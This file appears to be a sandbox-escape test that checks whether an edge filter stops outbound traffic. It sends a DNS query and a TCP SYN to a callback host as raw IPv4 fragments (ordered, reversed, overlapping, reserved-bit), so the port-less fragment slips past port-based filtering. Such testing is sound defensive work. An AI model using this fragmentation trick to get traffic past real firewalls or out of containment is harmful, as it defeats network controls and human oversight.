"""The second fragment has no port, and a filter that wants one lets it through."""

from typing import Any

from space_evaluate import inside
from space_evaluate.inside import Case
from space_evaluate.technique import BOTH, Technique

TECHNIQUE = Technique(
    tries="Send a query and a SYN in fragments: first, last, overlapping, tiny.",
    claim="G3",
    defences=("edge filter and source check",),
    stopped_by=("ip_fragment",),
    policies=BOTH,
    variants={
        "first and last": [[8192, 0], [0, 1]],
        "last first": [[0, 1], [8192, 0]],
        "overlapping": [[8192, 0], [8192, 0], [0, 1]],
        "the reserved bit": [[32768, 0]],
    },
    quick=True,
)


def attack(case: Case, what: Any) -> None:
    ground = case.ground
    query = inside.udp(inside.question(f"{case.token}.{ground.callback}"), to=ground.gateway, port=53)

    whole = {"udp": query, "tcp": inside.tcp(ground.callback_at, 443)}
    for protocol, packet in ((17, whole["udp"]), (6, whole["tcp"])):
        body = packet[20:]
        for flags, part in what:
            case.frames(
                inside.ether(
                    inside.ipv4(
                        body[part * 8 : part * 8 + 8],
                        to=ground.gateway if protocol == 17 else ground.callback_at,
                        protocol=protocol,
                        fragment=flags | part,
                    )
                )
            )
